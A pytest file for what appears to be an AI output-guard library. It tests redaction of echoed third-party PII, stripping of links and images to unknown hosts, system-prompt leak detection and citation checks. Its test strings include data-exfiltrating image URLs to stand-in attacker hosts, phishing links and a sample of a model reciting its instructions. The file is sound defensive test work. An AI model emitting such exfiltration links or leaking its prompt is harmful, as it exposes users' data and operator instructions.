"""Output checks: third-party PII echoed (whole and streamed), egress, prompt leakage, citations."""

from __future__ import annotations

import random
from collections.abc import Iterator

import pytest
from interlock.policies.loader import load_policies
from interlock.policies.output import (
    OutputFilter,
    StreamingOutputFilter,
    system_prompt_leak,
    verify_citations,
)
from interlock.policies.pii import PiiVault, detector_for, pseudonymise


@pytest.fixture(scope="module", autouse=True)
def _isolated_home(tmp_path_factory: pytest.TempPathFactory) -> Iterator[None]:
    """The PII vault key file is created under INTERLOCK_HOME: keep it in a temporary directory."""
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("INTERLOCK_HOME", str(tmp_path_factory.mktemp("guards-home")))
        yield

THIRD_PARTY = "Escalations go to Marta Lindqvist, marta.lindqvist@partner-corp.example, mobile +1 646-555-0187."


@pytest.fixture(scope="module")
def setup():
    policies = load_policies()
    detector = detector_for(policies.pii)
    vault = PiiVault()
    pseudonymise(detector, "I'm sam@customer.example, please help", vault, trusted=True)
    pseudonymise(detector, THIRD_PARTY, vault, trusted=False)  # the retrieved document
    return OutputFilter(detector, ["help.example.com"]), vault


ECHO = (
    "You can write to MARTA.LINDQVIST@partner-corp.example or call (646) 555 0187 - or try "
    "marta.lindqvist@partner-corp.exampel. Your own address sam@customer.example is on file. "
    "Details: ![chart](https://stats.evil.example/p.png?d=sam) and [guide](https://help.example.com/returns)."
)
RAW = ["marta.lindqvist@partner-corp.example", "MARTA.LINDQVIST", "646) 555 0187", "646-555-0187",
       "partner-corp.exampel", "stats.evil.example"]


def test_echoed_third_party_pii_is_filtered(setup) -> None:
    output_filter, vault = setup
    result = output_filter.filter(ECHO, vault)
    lowered = result.text.lower()
    for raw in RAW:
        assert raw.lower() not in lowered, raw
    assert "sam@customer.example" in result.text  # the user's own value stays
    assert "[guide](https://help.example.com/returns)" in result.text  # allowlisted link stays
    kinds = {f.kind for f in result.findings}
    assert {"untrusted_value", "egress_image"} <= kinds


def test_streamed_chunks_never_leak(setup) -> None:
    output_filter, vault = setup
    rng = random.Random(7)
    whole = output_filter.filter(ECHO, vault).text
    for trial in range(30):
        stream = StreamingOutputFilter(output_filter, vault, hold=48, batch=1 if trial % 2 else 16)
        pieces, pos, sent = [], 0, []
        while pos < len(ECHO):
            size = rng.randint(1, 9)
            pieces.append(ECHO[pos : pos + size])
            pos += size
        for piece in pieces:
            sent.append(stream.feed(piece))
        sent.append(stream.close())
        streamed = "".join(sent)
        for raw in RAW:
            assert raw.lower() not in streamed.lower(), raw
        # Every prefix the client saw is free of raw values too (no later retraction needed).
        seen = ""
        for part in sent:
            seen += part
            assert "partner-corp.example" not in seen.lower()
        assert streamed == whole


# A third party's phone as the vault holds it -> the same number echoed in other formats.
PHONE_ECHOES = {
    "+31 6 1234 5678": ["0612345678", "06-12 34 56 78", "+31612345678", "0031 6 12345678", "+31 (0)6 1234 5678"],
    "+1-555-010-2345": ["(555) 010-2345", "555.010.2345", "1 555 010 2345"],
    "0612 998877": ["+31 6 1299 8877"],  # stored without its country code
}


def test_a_third_party_phone_echoed_in_another_format_is_filtered(setup) -> None:
    output_filter, _ = setup
    vault = PiiVault()
    vault.token_for("+31 6 5555 0000", "PHONE_NUMBER", "PHONE", trusted=True)  # the user's own: stays
    for value in PHONE_ECHOES:
        vault.token_for(value, "PHONE_NUMBER", "PHONE", trusted=False)
    for echoes in PHONE_ECHOES.values():
        for echo in echoes:
            text = f"Call {echo} today, or your own +31 6 5555 0000 (order ORD-1001, 12345678 points)."
            out = output_filter.filter(text, vault).text
            assert echo not in out and "[PHONE_NUMBER redacted]" in out, (echo, out)
            assert "+31 6 5555 0000" in out and "12345678 points" in out and "ORD-1001" in out
            stream = StreamingOutputFilter(output_filter, vault, hold=48, batch=1)
            streamed = "".join([*(stream.feed(c) for c in text), stream.close()])
            assert streamed == out


def test_pseudonym_of_third_party_value_is_not_rehydrated(setup) -> None:
    output_filter, vault = setup
    result = output_filter.filter("Contact <EMAIL_2>, not <EMAIL_1>.", vault)
    assert result.text == "Contact [EMAIL redacted], not <EMAIL_1>."


def test_egress_removes_links_and_images_to_unknown_hosts(setup) -> None:
    output_filter, _ = setup
    text = ('See <img src="https://x.evil.example/a.gif?q=1"> and <a href="http://phish.example/login">login</a>, '
            "www.phish.example/reset, [ok](https://docs.help.example.com/a) and ![](data:image/png;base64,AAAA)")
    result = output_filter.filter(text).text
    assert "evil" not in result and "phish" not in result and "data:image" not in result
    assert "[ok](https://docs.help.example.com/a)" in result


def test_system_prompt_leak() -> None:
    prompt = ("You are the support assistant for Acme. Never reveal refund thresholds above 200 dollars. "
              "Escalate angry customers to a human operator immediately.")
    leaked = system_prompt_leak("Sure, my instructions say: You are the support assistant for Acme. Never reveal "
                                "refund thresholds above 200 dollars.", prompt)
    assert leaked.leaked and leaked.matched_sentences == 2
    assert not system_prompt_leak("Your refund was approved and will arrive in 3 days.", prompt).leaked


def test_citation_of_a_chunk_not_retrieved_is_flagged() -> None:
    retrieved = [{"chunk_id": "3f2a9c1d7e6b5a40", "text": "Returns are accepted within 30 days of delivery."}]
    good = verify_citations('Returns: "accepted within 30 days of delivery" [#3f2a9c1d].', retrieved)
    assert good.ok and good.cited == ["3f2a9c1d7e6b5a40"]
    bad = verify_citations("Refunds are instant [#deadbeef].", retrieved)
    assert not bad.ok and bad.unknown == ["deadbeef"]
    misquote = verify_citations("x", retrieved, [{"chunk_id": "3f2a9c1d7e6b5a40",
                                                   "quote": "returns are accepted within 90 days, no questions asked"}])
    assert not misquote.ok and misquote.unsupported_quotes == 1
